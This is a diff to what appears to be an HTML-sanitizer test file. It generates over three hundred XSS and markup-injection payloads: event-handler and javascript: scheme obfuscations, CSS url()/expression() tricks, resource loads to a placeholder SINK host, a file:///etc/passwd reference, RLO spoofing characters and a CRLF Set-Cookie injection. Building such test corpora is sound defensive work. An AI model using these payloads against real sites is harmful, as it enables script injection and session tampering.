@@ -86,3 +86,74 @@ PAYLOADS = (
     "<div hx-get='SINK/hx' hx-trigger=load data-live='SINK/live' id=rows popover>x</div>",
     "<p id=said class=row>clobber</p><img name=getElementById><form id=keys></form>",
 )
+
+# --- The same ideas, turned in every way ------------------------------------------------------------
+
+_HANDLERS = (
+    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "oninput", "onchange", "onsubmit",
+    "ontoggle", "onanimationstart", "onanimationend", "ontransitionend", "onpointerenter", "onwheel",
+    "onscroll", "onbeforeinput", "oncopy", "onpaste", "ondrag", "onbegin", "onend", "onrepeat", "onpageshow",
+    "onhashchange", "onpopstate", "onmessage", "onunload", "onbeforeunload", "onresize", "oncuechange",
+    "onbeforetoggle", "oncontentvisibilityautostatechange", "onfocusin", "onscrollend", "onsecuritypolicyviolation",
+)  # fmt: skip
+_ELEMENTS = (
+    "div",
+    "img src=x",
+    "svg",
+    "details open",
+    "input autofocus",
+    "video src=x",
+    "a href=#",
+    "x tabindex=1",
+)
+_SCHEMES = (
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java&Tab;script:alert(1)",
+    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml;utf8,<svg onload=alert(1)>",
+    "vbscript:x", "view-source:SINK/v", "blob:SINK/b", "filesystem:SINK/f", "file:///etc/passwd", "about:blank#x",
+    "feed:javascript:alert(1)", "//sink.invalid/p", "\\\\sink.invalid\\p", "http:SINK", "jar:SINK!/x",
+)  # fmt: skip
+_HOLDERS = (
+    '<a href="{}">x</a>', '<a target=_top href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
+    '<object data="{}"></object>', '<img src="{}">', '<svg><a href="{}"><text>x</text></a></svg>', '<area href="{}">',
+    '<math href="{}">x</math>', '<base href="{}">', '<meta http-equiv=refresh content="0; url={}">',
+)  # fmt: skip
+_STYLES = (
+    "background:url(SINK/1)", "background:URL('SINK/2')", "background:\\75rl(SINK/3)", "background-image:image-set('SINK/4' 1x)",
+    "background:-webkit-image-set(url(SINK/5) 1x)", "list-style-image:url(SINK/6)", "cursor:url(SINK/7),auto", "content:url(SINK/8)",
+    "border-image:url(SINK/9) 1", "mask:url(SINK/10)", "filter:url(SINK/11#x)", "clip-path:url(SINK/12#x)", "shape-outside:url(SINK/13)",
+    "offset-path:url(SINK/14#x)", "background:/**/url(SINK/15)", "background:u/**/rl(SINK/16)", "--x:url(SINK/17);background:var(--x)",
+    "font:12px 'x';src:url(SINK/18)", "-moz-binding:url(SINK/19)", "behavior:url(SINK/20)", "width:calc(1px + expression(alert(1)))",
+    "position:fixed;top:0;left:0;width:100vw;height:100vh", "position:absolute;inset:0;z-index:2147483647", "color:red;}body{background:url(SINK/21)",
+    "background:cross-fade(url(SINK/22),url(SINK/23),50%)", "background:element(#x)", "background:paint(x)", "transition:all 1s;animation:x 1s",
+)  # fmt: skip
+_FETCHERS = (
+    "<img src=SINK/a>", "<img srcset='SINK/b 2x'>", "<img loading=eager lowsrc=SINK/c dynsrc=SINK/d>", "<picture><source srcset=SINK/e><img></picture>",
+    "<link rel=icon href=SINK/f>", "<link rel=manifest href=SINK/g>", "<link rel=modulepreload href=SINK/h>", "<link rel=preconnect href=SINK>",
+    "<link rel=stylesheet media=print href=SINK/i onload=this.media='all'>", "<table background=SINK/j><tr background=SINK/k><td>x</table>",
+    "<body background=SINK/l>", "<video poster=SINK/m></video>", "<audio autoplay src=SINK/n></audio>", "<source src=SINK/o><track src=SINK/p default>",
+    "<embed src=SINK/q>", "<object data=SINK/r></object>", "<applet code=SINK/s></applet>", "<frameset><frame src=SINK/t></frameset>",
+    "<bgsound src=SINK/u>", "<layer src=SINK/v></layer>", "<ilayer src=SINK/w></ilayer>", "<input type=image src=SINK/x>",
+    "<svg><image xlink:href=SINK/y /></svg>", "<svg><feImage href=SINK/z /></svg>", "<svg><use href=SINK/aa#x /></svg>",
+    "<svg><style>@import 'SINK/ab';</style></svg>", "<style>@font-face{font-family:x;src:url(SINK/ac)}*{font-family:x}</style>",
+    "<style>@import url(SINK/ad);</style>", "<?xml-stylesheet href='SINK/ae'?><p>x", "<!DOCTYPE html SYSTEM 'SINK/af'><p>x",
+    "<portal src=SINK/ag></portal>", "<fencedframe src=SINK/ah></fencedframe>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"SINK/ai\"]}]}</script>",
+    "<script type=importmap>{\"imports\":{\"x\":\"SINK/aj\"}}</script>", "<script nomodule src=SINK/ak></script>", "<script type=module>import 'SINK/al'</script>",
+    "<a href=SINK/am attributionsrc=SINK/an>x</a>", "<img attributionsrc=SINK/ao>", "<a ping=SINK/ap href=#>x</a>", "<blockquote cite=SINK/aq>x</blockquote>",
+)  # fmt: skip
+_CONFUSERS = (
+    "\u202etxt.exe\u202c", "\u2066\u2067\u2068x\u2069", "a\u0000b\u0007c\u001bd", "\ufeff\u200b\u200d\u2060", "\U000e0001\U000e0041\U000e007f", "x" * 3000,
+    "a\u0300" * 200, "\ud7ff\ue000\uffff", "<b" * 100, "</" * 100, "&" * 500, "\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
+)  # fmt: skip
+
+MORE = tuple(dict.fromkeys((
+    *(f"<{_ELEMENTS[n % len(_ELEMENTS)]} {one}=\"{RUN}\">x" for n, one in enumerate(_HANDLERS)),
+    *(f"<{element} {_HANDLERS[n]}='alert(1)' {_HANDLERS[n].upper()}=alert(1)>" for n, element in enumerate(_ELEMENTS)),
+    *(_HOLDERS[(n + turn) % len(_HOLDERS)].format(one) for n, one in enumerate(_SCHEMES) for turn in (0, 3, 7, 10)),
+    *(f'<p style="{one}">x</p>' for one in _STYLES),
+    *(f"<div><table><tr><td style='{one}'>x</td></tr></table></div>" for one in _STYLES[::2]),
+    *_FETCHERS,
+    *(f"<noscript>{one}</noscript><template>{one}</template><!--[if true]>{one}<![endif]-->" for one in _FETCHERS[::3]),
+    *(f"{one}<img src=x onerror=alert(1)>" for one in _CONFUSERS),
+)))  # fmt: skip
+"""Made from the lists above: with `PAYLOADS` more than three hundred."""
